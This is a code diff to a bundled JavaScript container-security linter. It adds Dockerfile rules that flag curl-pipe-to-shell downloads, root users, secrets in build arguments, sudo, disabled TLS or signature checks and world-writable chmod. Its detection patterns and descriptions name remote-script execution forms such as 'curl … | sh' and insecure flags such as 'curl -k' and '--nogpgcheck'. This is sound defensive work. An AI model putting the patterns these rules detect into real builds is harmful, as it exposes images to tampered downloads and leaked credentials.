+var DOWNLOADERS = /* @__PURE__ */ new Set(["curl", "wget", "fetch"]);
+var DOWNLOAD_SUBSTITUTION_RE = /^\s*(?:\S*\/)?(curl|wget|fetch)\b/;
+var rule29 = {
+  id: "dockerfile/curl-pipe-shell",
+  check: "manifests",
+  title: "Remote script piped into a shell",
+  severity: "high",
+  description: 'A `RUN` instruction downloads a script and executes it unseen: `curl \u2026 | sh`, `wget -O- \u2026 | sudo bash`, `sh -c "$(curl \u2026)"`, `bash <(curl \u2026)`, `source <(wget \u2026)` \u2014 in shell form, exec form, heredoc scripts and nested `sh -c` strings.',
+  rationale: "Whatever the server returns at build time runs with the build's privileges (usually root), with no review and no integrity check. A compromised download host, a hijacked domain or a TLS-intercepting proxy becomes code execution in your image; servers can even detect `curl | sh` and serve a different script than a browser sees. A partial download can also execute a truncated script.",
+  fix: 'Download to a file, verify a pinned checksum (or signature), then run it:\n\n```dockerfile\nRUN curl -fsSLo /tmp/install.sh https://example.com/install-1.4.2.sh \\\n && echo "3f2a\u2026e9  /tmp/install.sh" | sha256sum -c - \\\n && sh /tmp/install.sh && rm /tmp/install.sh\n```\n\nBetter still, install a versioned package or `COPY --from=` a pinned image that contains the tool.',
+  references: ["https://docs.docker.com/build/building/best-practices/#run"],
+  exceptions: RUN_LOCATION_NOTE
+};
+function downloaderIn(word) {
+  for (const sub of word.substitutions) {
+    const match2 = DOWNLOAD_SUBSTITUTION_RE.exec(sub.text);
+    if (match2) {
+      const index = sub.text.indexOf(match2[1], match2.index);
+      return { offset: sub.offsets[index] ?? word.start, tool: match2[1] };
+    }
+  }
+  return void 0;
+}
+function isShellReadingScript(entry) {
+  return SHELLS.has(entry.program) && !inlineScript(entry.inv);
+}
+var curlPipeShell2 = {
+  rule: rule29,
+  check(model) {
+    const reporter = new Reporter2(model, rule29);
+    const entries2 = runInvocations(model);
+    const runIndex = new Map(model.runs.map((run19, index) => [run19, index]));
+    const byPipeline = /* @__PURE__ */ new Map();
+    for (const entry of entries2) {
+      const id = `${runIndex.get(entry.run)}:${entry.command.pipeline}`;
+      const pipeline = byPipeline.get(id);
+      if (pipeline) pipeline.push(entry);
+      else byPipeline.set(id, [entry]);
+    }
+    for (const pipeline of byPipeline.values()) {
+      const sorted = [...pipeline].sort((a, b) => a.command.index - b.command.index);
+      const download = sorted.find((entry) => DOWNLOADERS.has(entry.program));
+      if (!download) continue;
+      const shell = sorted.find((entry) => entry.command.index > download.command.index && isShellReadingScript(entry));
+      if (!shell) continue;
+      reporter.reportWord(download.inv.argv[0], {
+        stage: download.run.stage,
+        key: `${download.program}|${shell.program}`,
+        message: `\`${download.program} \u2026 | ${shell.program}\` runs a downloaded script without verifying it.`
+      });
+    }
+    for (const entry of entries2) {
+      const script = inlineScript(entry.inv);
+      const candidates2 = script ? [script] : SHELLS.has(entry.program) || ["source", ".", "eval"].includes(entry.program) ? entry.args : [];
+      for (const word of candidates2) {
+        const found = downloaderIn(word);
+        if (!found) continue;
+        reporter.report({
+          offset: found.offset,
+          length: found.tool.length,
+          stage: entry.run.stage,
+          key: `${found.tool}>${entry.program}`,
+          message: `\`${entry.program}\` executes the output of \`${found.tool}\` without verifying it.`
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/root-user.ts
+var ROOT_USER_RE = /^(?:root|0)(?::.*)?$/;
+function resolveUser(model, instruction) {
+  const argument = instruction.getArguments()[0];
+  if (!argument) return void 0;
+  const raw = argument.getValue();
+  const line = instruction.getRange().start.line;
+  let unresolved = false;
+  const value = raw.replace(
+    /\$\{([A-Za-z_][A-Za-z0-9_]*)(?::?-([^}]*))?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g,
+    (_m, braced, fallback, bare) => {
+      const resolved = model.ast.resolveVariable(braced ?? bare, line);
+      if (resolved) return resolved;
+      if (fallback !== void 0) return fallback;
+      unresolved = true;
+      return "";
+    }
+  );
+  return {
+    instruction,
+    raw,
+    value: unresolved ? void 0 : value,
+    offset: offsetOf(model, argument.getRange().start)
+  };
+}
+function effectiveUser(model, stage) {
+  for (let current = stage; current; current = current.parent) {
+    const users = current.instructions.filter((instruction) => instruction.getKeyword() === "USER");
+    const last = users[users.length - 1];
+    if (last) return resolveUser(model, last);
+  }
+  return void 0;
+}
+function rootImage(stage) {
+  let current = stage;
+  while (current.parent) current = current.parent;
+  return current.image;
+}
+var rule30 = {
+  id: "dockerfile/root-user",
+  check: "manifests",
+  title: "Final stage runs as root",
+  severity: "high",
+  description: "The last stage of the Dockerfile (the image that is shipped) has no `USER` instruction, or its last `USER` is `root`, `0`, `root:<group>` or `0:<group>`. A stage built `FROM` an earlier stage inherits that stage's `USER`. Base images whose tag says `nonroot` (distroless `:nonroot`) are trusted to set a non-root user. A `USER` whose value is a build argument without a default cannot be judged and is not reported.\n\nThe finding points at the offending `USER` argument, or at the final `FROM` when there is no `USER`.",
+  rationale: "A process running as root inside the container is root on the host as far as the kernel is concerned, unless user namespaces are in use. Any container escape (a kernel bug, a mounted Docker socket, a writable host path, an over-broad capability) then gives the attacker root on the node. Running as an unprivileged user also stops an exploited application from changing its own binaries and system files.",
+  fix: 'Create an unprivileged user in the final stage and switch to it after the steps that need root:\n\n```dockerfile\nFROM debian:12-slim\nRUN useradd --system --uid 10001 --no-create-home app\nCOPY --chown=app:app ./dist /app\nUSER 10001:10001\nENTRYPOINT ["/app/server"]\n```\n\nA numeric UID lets Kubernetes verify `runAsNonRoot`.',
+  references: [
+    "https://docs.docker.com/reference/dockerfile/#user",
+    "https://docs.docker.com/build/building/best-practices/#user",
+    "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
+  ],
+  exceptions: "Images whose entrypoint drops privileges itself (gosu, su-exec, s6 `s6-setuidgid`) can be excepted inline: put `# containersec:ignore dockerfile/root-user <reason>` on the line above the final `FROM` or the `USER`."
+};
+var rootUser2 = {
+  rule: rule30,
+  check(model) {
+    const reporter = new Reporter2(model, rule30);
+    const final = model.stages[model.stages.length - 1];
+    if (!final) return [];
+    const user = effectiveUser(model, final);
+    if (user) {
+      if (user.value !== void 0 && ROOT_USER_RE.test(user.value.trim())) {
+        reporter.report({
+          offset: user.offset,
+          length: user.raw.length,
+          stage: final,
+          message: `The final stage switches to ${code2(user.raw)}${user.raw === user.value ? "" : ` (${code2(user.value)})`}, so the container runs as root.`,
+          key: "user-root",
+          fix: "USER 10001:10001"
+        });
+      }
+      return reporter.findings;
+    }
+    const image = rootImage(final);
+    if (image !== void 0 && /nonroot/i.test(image.split("/").pop() ?? "")) return [];
+    reporter.report({
+      offset: offsetOf(model, final.from.getRange().start),
+      length: 4,
+      stage: final,
+      message: `The final stage${final.name ? ` \`${final.name}\`` : ""} sets no \`USER\`, so the container runs as the base image's user, which is root unless the image says otherwise.`,
+      key: "no-user",
+      fix: "RUN useradd --system --uid 10001 app\nUSER 10001"
+    });
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/secrets.ts
+var rule31 = {
+  id: "dockerfile/secret-in-build",
+  check: "manifests",
+  title: "Secret passed through `ENV`, `ARG` or a build command",
+  severity: "high",
+  description: "An `ENV` or `ARG` whose name says it holds a secret (a `_`-separated `PASSWORD`, `PASSWD`, `PASS`, `SECRET`, `TOKEN`, `KEY`, `APIKEY`, `AUTH`, `CREDENTIALS`... \u2014 the same logic as BuildKit's `SecretsUsedInArgOrEnv` check; names that also contain `PUBLIC`, `FILE`, `PATH`, `DIR`, `GPG`, `URL`, `ENDPOINT`, `HOST`, `TYPE`, `METHOD`, `MODE` are exempt), or an `ENV`/`ARG` value or `RUN` word that matches a well-known credential format (AWS access key id, GitHub/GitLab/npm/PyPI/Slack/Stripe/Docker Hub tokens, Google API keys, private keys, passwords inside URLs). In `RUN`, literal values assigned to such names (`PASSWORD=x ./configure`, `export API_TOKEN=x`) are reported too; values built from `$VAR` or `$(cat \u2026)` are not. The secret is never shown in the finding.\n\n`RUN --mount=type=secret` is the correct way to use a secret and is not reported.",
+  rationale: "`ENV` values are stored in the image configuration and visible to anyone who can pull the image (`docker inspect`). `ARG` values used by a `RUN` end up in the image history and in build provenance, and build arguments are often logged by CI. Literal tokens in the Dockerfile are in the Git history forever. Anyone with read access to the registry or the repository gets the credential.",
+  fix: "Pass secrets as BuildKit secret mounts, which exist only for the duration of one `RUN` and are never stored:\n\n```dockerfile\n# syntax=docker/dockerfile:1\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\n    npm ci\n```\n\n```sh\ndocker build --secret id=npm_token,env=NPM_TOKEN .\n```\n\nRuntime secrets belong in the orchestrator (Kubernetes Secrets, compose `secrets:`), not in the image. Rotate any credential that was committed.",
+  references: [
+    "https://docs.docker.com/build/building/secrets/",
+    "https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"
+  ],
+  exceptions: RUN_LOCATION_NOTE
+};
+var secretInBuild = {
+  rule: rule31,
+  check(model) {
+    const reporter = new Reporter2(model, rule31);
+    const stageOf = /* @__PURE__ */ new Map();
+    for (const stage of model.stages) for (const instruction of stage.instructions) stageOf.set(instruction, stage);
+    for (const instruction of model.ast.getInstructions()) {
+      const keyword = instruction.getKeyword();
+      if (keyword !== "ENV" && keyword !== "ARG") continue;
+      const stage = stageOf.get(instruction);
+      for (const property of instruction.getProperties()) {
+        const name = property.getName();
+        const value = property.getValue();
+        const valueRange = property.getValueRange();
+        if (isSecretName(name)) {
+          reporter.report({
+            offset: offsetOf(model, property.getNameRange().start),
+            length: name.length,
+            stage,
+            key: `${keyword} ${name}`,
+            message: value !== null && value !== "" ? `\`${keyword} ${name}\` sets what its name says is a secret (value redacted); it is stored in the image ${keyword === "ENV" ? "configuration" : "history and build provenance"}.` : `\`${keyword} ${name}\` carries a secret into the build; ${keyword === "ENV" ? "ENV values are stored in the image configuration" : "build-argument values end up in the image history and build provenance"}.`,
+            fix: `RUN --mount=type=secret,id=${name.toLowerCase()},env=${name} <command>`
+          });
+        } else if (value && valueRange) {
+          const pattern = findTokenPattern(value);
+          if (!pattern) continue;
+          reporter.report({
+            offset: offsetOf(model, valueRange.start),
+            length: value.length,
+            stage,
+            key: `${keyword} ${name} ${pattern.id}`,
+            message: `The value of \`${keyword} ${name}\` looks like a ${pattern.description} (redacted).`,
+            fix: `RUN --mount=type=secret,id=${name.toLowerCase()},env=${name} <command>`
+          });
+        }
+      }
+    }
+    for (const entry of runInvocations(model)) {
+      const exported = ["export", "declare", "typeset", "env"].includes(entry.program) ? entry.args : [];
+      for (const word of [...entry.inv.assignments, ...exported]) {
+        const eq = word.text.indexOf("=");
+        if (eq <= 0) continue;
+        const name = word.text.slice(0, eq).replace(/\+$/, "");
+        const value = word.text.slice(eq + 1);
+        if (!isSecretName(name) || value === "" || value.includes("$") || findTokenPattern(value)) continue;
+        reporter.reportWord(word, {
+          stage: entry.run.stage,
+          key: `RUN ${name}`,
+          message: `\`RUN\` sets \`${name}\` to a literal value (redacted); the command line is stored in the image history.`,
+          fix: `RUN --mount=type=secret,id=${name.toLowerCase()},env=${name} <command>`
+        });
+      }
+      const script = inlineScript(entry.inv);
+      for (const word of [...entry.command.assignments, ...entry.command.words]) {
+        if (word === script || word.substitutions.some((sub) => findTokenPattern(sub.text))) continue;
+        const pattern = findTokenPattern(word.text);
+        if (!pattern) continue;
+        reporter.reportWord(word, {
+          stage: entry.run.stage,
+          key: `RUN ${entry.program} ${pattern.id}`,
+          message: `A \`RUN ${entry.program}\` argument contains what looks like a ${pattern.description} (redacted); it is stored in the image history.`,
+          fix: "RUN --mount=type=secret,id=<id>,env=<VAR> <command using $VAR>"
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/sudo.ts
+var rule32 = {
+  id: "dockerfile/sudo",
+  check: "manifests",
+  title: "`sudo` used in `RUN`",
+  severity: "medium",
+  description: "A `RUN` instruction calls `sudo` (anywhere in a `&&`/`;`/`|` chain, in a heredoc script or inside `sh -c`).",
+  rationale: "Build steps already run as the current `USER`; `sudo` is only needed when a later stage switched to a normal user and then wants root back. That means the image ships `sudo` plus a sudoers rule that lets the application user become root at run time \u2014 an easy privilege escalation for anyone who gets code execution in the container. `sudo` also behaves unpredictably without a TTY and leaks environment variables.",
+  fix: "Do the privileged steps before switching user, then drop privileges once:\n\n```dockerfile\nUSER root\nRUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u8\nUSER 10001\n```\n\nIf the entrypoint must drop privileges itself, use `gosu` or `su-exec` instead of `sudo`.",
+  references: ["https://docs.docker.com/build/building/best-practices/#user"],
+  exceptions: RUN_LOCATION_NOTE
+};
+var sudo = {
+  rule: rule32,
+  check(model) {
+    const reporter = new Reporter2(model, rule32);
+    for (const { run: run19, inv, program } of runInvocations(model)) {
+      const word = inv.wrappers.find((wrapper) => basename(wrapper) === "sudo");
+      if (!word) continue;
+      reporter.reportWord(word, {
+        stage: run19.stage,
+        key: `sudo ${program}`,
+        message: `\`sudo ${program}\` in a build step: the image keeps \`sudo\` and a way back to root.`,
+        fix: program ? `USER root
+RUN ${program} \u2026
+USER <app user>` : void 0
+      });
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/tls-verification.ts
+var CURL_VALUE_OPTIONS = "AbcCdDeEFHKmoPQrtTuUwxXyYz";
+function curlInsecure(word) {
+  const text = word.text;
+  if (text === "--insecure" || text === "--proxy-insecure" || text === "--doh-insecure") return true;
+  if (!/^-[A-Za-z0-9#:]+$/.test(text)) return false;
+  for (const letter of text.slice(1)) {
+    if (letter === "k") return true;
+    if (CURL_VALUE_OPTIONS.includes(letter)) return false;
+  }
+  return false;
+}
+var APT_OPTION_RES = [
+  /^Acquire::https?::(?:[^:]+::)?Verify-(?:Peer|Host)\s*=\s*"?(?:false|0|no|off)"?$/i,
+  /^APT::Get::AllowUnauthenticated\s*=\s*"?(?:true|1|yes|on)"?$/i,
+  /^Acquire::AllowInsecureRepositories\s*=\s*"?(?:true|1|yes|on)"?$/i,
+  /^Acquire::AllowDowngradeToInsecureRepositories\s*=\s*"?(?:true|1|yes|on)"?$/i
+];
+var APT_FLAGS = /* @__PURE__ */ new Set([
+  "--allow-unauthenticated",
+  "--allow-insecure-repositories",
+  "--force-yes",
+  "--no-check-signature"
+]);
+var RPM_FLAGS = /* @__PURE__ */ new Set([
+  "--nogpgcheck",
+  "--no-gpg-checks",
+  "--nosignature",
+  "--nodigest",
+  "--allow-untrusted-packages"
+]);
+var FALSE_RE = /^(?:false|0|no|off)$/i;
+var INSECURE_ENV = {
+  GIT_SSL_NO_VERIFY: (value) => value !== "",
+  NODE_TLS_REJECT_UNAUTHORIZED: (value) => value === "0",
+  PYTHONHTTPSVERIFY: (value) => value === "0",
+  NPM_CONFIG_STRICT_SSL: (value) => FALSE_RE.test(value),
+  YARN_ENABLE_STRICT_SSL: (value) => FALSE_RE.test(value),
+  PIP_TRUSTED_HOST: (value) => value !== ""
+};
+function insecureEnv(name, value) {
+  const test = INSECURE_ENV[name.toUpperCase()];
+  return test !== void 0 && test(value.replace(/^["']|["']$/g, ""));
+}
+function insecureWords(entry) {
+  const { program, args } = entry;
+  const hits = [];
+  const texts = args.map((word) => word.text);
+  if (program === "curl") {
+    for (const word of args) if (curlInsecure(word)) hits.push({ word, what: `curl ${word.text}` });
+  } else if (program === "wget") {
+    for (const word of args)
+      if (word.text === "--no-check-certificate") hits.push({ word, what: "wget --no-check-certificate" });
+  } else if (["apt-get", "apt", "aptitude"].includes(program)) {
+    for (const word of args) {
+      const option = word.text.replace(/^-o/, "").replace(/^--option=/, "");
+      if (APT_FLAGS.has(word.text) || APT_OPTION_RES.some((re) => re.test(option)))
+        hits.push({ word, what: `${program} ${word.text}` });
+    }
+  } else if (["yum", "dnf", "microdnf", "tdnf", "zypper", "rpm"].includes(program)) {
+    for (const word of args) {
+      if (RPM_FLAGS.has(word.text) || /^--setopt=(?:.*\.)?(?:sslverify|gpgcheck|repo_gpgcheck)=(?:0|false|no)$/i.test(word.text)) {
+        hits.push({ word, what: `${program} ${word.text}` });
+      }
+    }
+  } else if (program === "apk") {
+    for (const word of args) if (word.text === "--allow-untrusted") hits.push({ word, what: "apk --allow-untrusted" });
+  } else if (/^pip[0-9.]*$/.test(program) || /^python[0-9.]*$/.test(program) && texts.includes("pip")) {
+    args.forEach((word, k) => {
+      if (word.text === "--trusted-host" || word.text.startsWith("--trusted-host="))
+        hits.push({ word, what: "pip --trusted-host" });
+      if (/^(?:global|install)\.trusted-host$/.test(word.text) && texts[k - 2] === "config")
+        hits.push({ word, what: "pip config trusted-host" });
+    });
+  } else if (["npm", "yarn", "pnpm"].includes(program)) {
+    args.forEach((word, k) => {
+      if (/^--strict-ssl=(?:false|0)$/i.test(word.text) || word.text === "--strict-ssl" && FALSE_RE.test(texts[k + 1] ?? "")) {
+        hits.push({ word, what: `${program} --strict-ssl false` });
+      }
+      if (/^strict-ssl(?:=(?:false|0))?$/i.test(word.text) && texts.slice(0, k).some((t) => t === "set" || t === "config")) {
+        const value = word.text.includes("=") ? word.text.split("=")[1] : texts[k + 1] ?? "";
+        if (FALSE_RE.test(value)) hits.push({ word, what: `${program} config set strict-ssl false` });
+      }
+    });
+  } else if (program === "git") {
+    args.forEach((word, k) => {
+      const setting = /^http\.(?:[^=]*\.)?sslverify(?:=(.*))?$/i.exec(word.text);
+      if (!setting) return;
+      const value = setting[1] ?? texts[k + 1] ?? "";
+      if (FALSE_RE.test(value)) hits.push({ word, what: "git http.sslVerify=false" });
+    });
+  }
+  if (program === "export" || program === "declare" || program === "typeset") {
+    for (const word of args) if (isAssignment(word)) hits.push(...insecureAssignment(word));
+  }
+  for (const word of entry.inv.assignments) hits.push(...insecureAssignment(word));
+  const script = inlineScript(entry.inv);
+  for (const word of args) {
+    if (word === script || hits.some((hit) => hit.word === word)) continue;
+    if (/\[[^\]]*\btrusted=yes\b[^\]]*\]/.test(word.text)) hits.push({ word, what: "apt source [trusted=yes]" });
+    else if (/\bcheck_certificate\s*=\s*off\b/i.test(word.text))
+      hits.push({ word, what: "wgetrc check_certificate = off" });
+    else if (/\bsslverify\s*=\s*(?:0|false|no)\b/i.test(word.text)) hits.push({ word, what: "repo sslverify=0" });
+  }
+  return hits;
+}
+function insecureAssignment(word) {
+  const eq = word.text.indexOf("=");
+  const name = word.text.slice(0, eq).replace(/\+$/, "");
+  return insecureEnv(name, word.text.slice(eq + 1)) ? [{ word, what: `${name}=${word.text.slice(eq + 1)}` }] : [];
+}
+var rule33 = {
+  id: "dockerfile/tls-verification-disabled",
+  check: "manifests",
+  title: "TLS or signature verification disabled",
+  severity: "high",
+  description: "A build step turns off certificate or package-signature checks: `curl -k`/`--insecure`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`/`--allow-insecure-repositories`/`-o Acquire::https::Verify-Peer=false`, `[trusted=yes]` apt sources, `yum`/`dnf --nogpgcheck`, `--setopt=sslverify=0`, `zypper --no-gpg-checks`, `rpm --nosignature`, `apk --allow-untrusted`, `pip --trusted-host`, `npm config set strict-ssl false`, `git -c http.sslVerify=false`, or the environment variables `GIT_SSL_NO_VERIFY`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false`, `PIP_TRUSTED_HOST` set with `ENV`, `ARG`, `export` or before a command.",
+  rationale: "Without verification anyone on the network path (a compromised proxy or mirror, a hostile Wi-Fi or CI network, DNS spoofing) can substitute the packages and scripts the build downloads, and the result is shipped as your image. Variables set with `ENV` stay in the image and weaken every TLS connection the application makes at run time too.",
+  fix: "Remove the flag and fix the real cause \u2014 usually a missing CA certificate for a corporate proxy. Add the CA to the trust store instead:\n\n```dockerfile\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\nRUN update-ca-certificates\n```\n\nFor unsigned third-party apt repositories, import the vendor key into `/etc/apt/keyrings/` and use `signed-by=`.",
+  references: [
+    "https://curl.se/docs/sslcerts.html",
+    "https://wiki.debian.org/SecureApt",
+    "https://nodejs.org/api/cli.html#node_tls_reject_unauthorizedvalue"
+  ],
+  exceptions: RUN_LOCATION_NOTE
+};
+function propertyHits(model) {
+  const hits = [];
+  const stageOf = /* @__PURE__ */ new Map();
+  for (const stage of model.stages) for (const instruction of stage.instructions) stageOf.set(instruction, stage);
+  for (const instruction of model.ast.getInstructions()) {
+    const keyword = instruction.getKeyword();
+    if (keyword !== "ENV" && keyword !== "ARG") continue;
+    const properties = instruction.getProperties();
+    for (const property of properties) {
+      const value = property.getValue();
+      if (value === null || !insecureEnv(property.getName(), value)) continue;
+      const start = offsetOf(model, property.getNameRange().start);
+      hits.push({
+        offset: start,
+        length: property.getName().length,
+        stage: stageOf.get(instruction),
+        what: `${keyword} ${property.getName()}=${value}`
+      });
+    }
+  }
+  return hits;
+}
+var tlsVerificationDisabled = {
+  rule: rule33,
+  check(model) {
+    const reporter = new Reporter2(model, rule33);
+    for (const hit of propertyHits(model)) {
+      reporter.report({
+        offset: hit.offset,
+        length: hit.length,
+        stage: hit.stage,
+        key: hit.what,
+        message: `${code2(hit.what)} disables TLS verification for every process in the build${hit.what.startsWith("ENV") ? " and in the running container" : ""}.`
+      });
+    }
+    for (const entry of runInvocations(model)) {
+      for (const { word, what } of insecureWords(entry)) {
+        reporter.reportWord(word, {
+          stage: entry.run.stage,
+          key: what,
+          message: `${code2(what)} turns off certificate or signature verification for what this step downloads.`
+        });
+      }
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/world-writable.ts
+function grantsWorldWrite(mode) {
+  if (/^[0-7]{1,4}$/.test(mode)) {
+    const digits = mode.padStart(4, "0");
+    const special = Number(digits[0]);
+    const others = Number(digits[3]);
+    return (others & 2) !== 0 && (special & 1) === 0;
+  }
+  return mode.split(",").some((clause) => {
+    const match2 = /^([ugoa]*)((?:[-+=][rwxXstugo]*)+)$/.exec(clause);
+    if (!match2) return false;
+    const who = match2[1];
+    if (!who.includes("o") && !who.includes("a")) return false;
+    return /[+=][rwxXst]*w/.test(match2[2]) && !/[+=][rwxX]*t/.test(match2[2]);
+  });
+}
+var rule34 = {
+  id: "dockerfile/world-writable",
+  check: "manifests",
+  title: "`chmod` makes files world-writable",
+  severity: "medium",
+  description: "A `RUN` calls `chmod` (with or without `-R`) with a mode that lets every user write: octal modes with the others-write bit (`777`, `0666`, `-R 777`) or symbolic modes granting `w` to `o` or `a` (`a+rwx`, `o+w`, `a=rwx`). Sticky-bit modes such as `1777` (the `/tmp` convention) are not reported.",
+  rationale: "Any process in the container \u2014 including an exploited one running as an unprivileged user \u2014 can then replace binaries, scripts, libraries or configuration in those paths, turning a foothold into persistent code execution or privilege escalation when root later runs the modified file. `777` is usually a workaround for a UID mismatch that has a precise fix.",
+  fix: "Give ownership to the user that needs to write, and keep the mode tight:\n\n```dockerfile\nCOPY --chown=10001:10001 ./data /app/data\nRUN chmod -R u=rwX,g=rX,o= /app/data\nUSER 10001\n```",
+  references: ["https://docs.docker.com/reference/dockerfile/#copy---chown---chmod"],
+  exceptions: RUN_LOCATION_NOTE
+};
+var worldWritable = {
+  rule: rule34,
+  check(model) {
+    const reporter = new Reporter2(model, rule34);
+    for (const entry of runInvocations(model)) {
+      if (entry.program !== "chmod") continue;
+      if (entry.args.some((word) => word.text.startsWith("--reference"))) continue;
+      const [mode, ...targets] = operands(entry.args);
+      if (!mode || !grantsWorldWrite(mode.text)) continue;
+      const paths = targets.map((word) => word.text).join(" ");
+      reporter.reportWord(mode, {
+        stage: entry.run.stage,
+        key: `chmod ${mode.text} ${paths}`,
+        message: `\`chmod ${mode.text}\` makes ${paths ? `\`${paths.slice(0, 120)}\`` : "the target"} writable by every user.`,
+        fix: "chmod u=rwX,g=rX,o= <path>  # and chown to the user that writes"
+      });
+    }
+    return reporter.findings;
+  }
+};
+
+// src/checks/manifests/dockerfile/index.ts
+var DOCKERFILE_RULES = [
+  rootUser2,
+  baseImageLatest,
+  baseImageNoDigest,
+  addRemoteUrl,
+  addInsteadOfCopy,
+  curlPipeShell2,
+  secretInBuild,
+  sudo,
+  tlsVerificationDisabled,
+  unpinnedPackage,
+  aptUpgrade,
+  worldWritable,
+  exposeSsh,
+  missingHealthcheck
+];
+function isDockerfilePath(path8) {
+  const name = path8.slice(path8.lastIndexOf("/") + 1);
+  if (/\.(?:dockerignore|md|txt)$/i.test(name)) return false;
+  return /^Dockerfile(?:\..+)?$/.test(name) || /.\.[Dd]ockerfile$/.test(name) || /^Containerfile/.test(name);
+}
+function parseErrorFinding(path8, message, line, column) {
+  return {
+    ruleId: "manifests/parse-error",
+    severity: "high",
+    title: "Dockerfile could not be parsed",
+    message: `This Dockerfile could not be checked: ${message}.`,
+    location: { path: path8, startLine: line, startColumn: column },
+    key: "dockerfile-parse",
+    fix: "Fix the Dockerfile so that `docker build --check` accepts it."
+  };
+}
+function lintDockerfile(file) {
+  let model;
+  try {
+    model = parseDockerfile(file.path, file.text);
+  } catch (error2) {
+    if (error2 instanceof DockerfileParseError)
+      return [parseErrorFinding(file.path, error2.message, error2.line, error2.column)];
+    return [parseErrorFinding(file.path, `the parser failed (${errorMessage(error2).slice(0, 200)})`, 1, 1)];
+  }
+  const findings = [];
+  for (const { rule: rule35, check: check2 } of DOCKERFILE_RULES) {
+    try {
+      findings.push(...check2(model));
+    } catch (error2) {
+      findings.push({
+        ...parseErrorFinding(file.path, `rule ${rule35.id} failed (${errorMessage(error2).slice(0, 200)})`, 1, 1),
+        key: `dockerfile-rule-error:${rule35.id}`
+      });
+    }
+  }
+  return findings;
+}
+var dockerfileLinter = {
+  id: "dockerfile",
+  rules: DOCKERFILE_RULES.map(({ rule: rule35 }) => rule35),
+  matches: isDockerfilePath,
+  lint(files) {
+    return files.flatMap((file) => lintDockerfile(file));
+  }
+};
+
+// src/checks/manifests/kubernetes/yaml-view.ts
+var import_yaml10 = __toESM(require_dist(), 1);
 var YAML11_TRUE = /* @__PURE__ */ new Set(["y", "Y", "yes", "Yes", "YES", "true", "True", "TRUE", "on", "On", "ON"]);
 var YAML11_FALSE = /* @__PURE__ */ new Set(["n", "N", "no", "No", "NO", "false", "False", "FALSE", "off", "Off", "OFF"]);
-var MAX_ALIAS_HOPS = 32;
-var MAX_MERGE_DEPTH = 8;
+var MAX_ALIAS_HOPS2 = 32;
+var MAX_MERGE_DEPTH2 = 8;
 var View = class _View {
-  constructor(doc2, node, positionOf2, keyNode) {
+  constructor(doc2, node, positionOf3, keyNode) {
     this.doc = doc2;
     this.node = node;
-    this.positionOf = positionOf2;
+    this.positionOf = positionOf3;
     this.keyNode = keyNode;
   }
   doc;
   node;
   positionOf;
   keyNode;
-  static root(doc2, positionOf2) {
+  static root(doc2, positionOf3) {
     const node = resolveNode(doc2, doc2.contents);
-    return node ? new _View(doc2, node, positionOf2) : void 0;
+    return node ? new _View(doc2, node, positionOf3) : void 0;
   }
   /** Position of the key this value was reached by, else of the value itself. */
   get position() {
@@ -35881,14 +48825,14 @@ var View = class _View {
     return this.positionOf(this.node.range?.[0] ?? 0);
   }
   isMap() {
-    return (0, import_yaml2.isMap)(this.node);
+    return (0, import_yaml10.isMap)(this.node);
   }
   isSeq() {
-    return (0, import_yaml2.isSeq)(this.node);
+    return (0, import_yaml10.isSeq)(this.node);
   }
   /** The value under `key` (null values count as absent, like Go's nil pointers). */
   get(key) {
-    if (!(0, import_yaml2.isMap)(this.node)) return void 0;
+    if (!(0, import_yaml10.isMap)(this.node)) return void 0;
     const pair2 = findPair(this.doc, this.node.items, key, 0);
     if (!pair2) return void 0;
     const value = resolveNode(this.doc, pair2.value);
@@ -35901,7 +48845,7 @@ var View = class _View {
   }
   /** Sequence items (null items included as views of the null scalar are skipped). */
   items() {
-    if (!(0, import_yaml2.isSeq)(this.node)) return [];
+    if (!(0, import_yaml10.isSeq)(this.node)) return [];
     const out = [];
     for (const item of this.node.items) {
       const node = resolveNode(this.doc, item);
@@ -35911,7 +48855,7 @@ var View = class _View {
   }
   /** Mapping entries with string keys, merge keys expanded, later keys winning. */
   entries() {
-    if (!(0, import_yaml2.isMap)(this.node)) return [];
+    if (!(0, import_yaml10.isMap)(this.node)) return [];
     const seen = /* @__PURE__ */ new Map();
     collectEntries(this.doc, this.node.items, 0, (key, pair2) => {
       if (seen.has(key)) return;
@@ -35923,7 +48867,7 @@ var View = class _View {
   }
   /** Scalar value as a string (numbers and booleans are stringified), or undefined. */
   string() {
-    if (!(0, import_yaml2.isScalar)(this.node)) return void 0;
+    if (!(0, import_yaml10.isScalar)(this.node)) return void 0;
     const value = this.node.value;
     if (value === null || value === void 0) return void 0;
     if (typeof value === "string") return value;
@@ -35932,7 +48876,7 @@ var View = class _View {
   }
   /** Boolean with YAML 1.1 plain-scalar semantics; undefined when it is not a boolean. */
   bool() {
-    if (!(0, import_yaml2.isScalar)(this.node)) return void 0;
+    if (!(0, import_yaml10.isScalar)(this.node)) return void 0;
     const value = this.node.value;
     if (typeof value === "boolean") return value;
     if (typeof value === "string" && (this.node.type === "PLAIN" || this.node.type === void 0)) {
@@ -35943,7 +48887,7 @@ var View = class _View {
     return void 0;
   }
   number() {
-    if (!(0, import_yaml2.isScalar)(this.node)) return void 0;
+    if (!(0, import_yaml10.isScalar)(this.node)) return void 0;
     const value = this.node.value;
     if (typeof value === "number") return value;
     if (typeof value === "bigint") return Number(value);
@@ -35951,15 +48895,15 @@ var View = class _View {
   }
 };
 function isNodeLike(value) {
-  return (0, import_yaml2.isScalar)(value) || (0, import_yaml2.isMap)(value) || (0, import_yaml2.isSeq)(value) || (0, import_yaml2.isAlias)(value);
